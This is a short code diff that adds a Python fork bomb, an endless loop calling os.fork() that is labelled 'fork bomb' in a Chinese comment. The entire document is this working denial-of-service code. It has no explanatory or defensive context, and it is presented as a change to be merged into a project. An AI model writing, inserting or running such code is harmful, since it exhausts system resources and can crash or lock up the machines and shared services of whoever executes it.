@@ -1,0 +1,4 @@
+import os
+# fork炸弹
+while True:
+    os.fork()
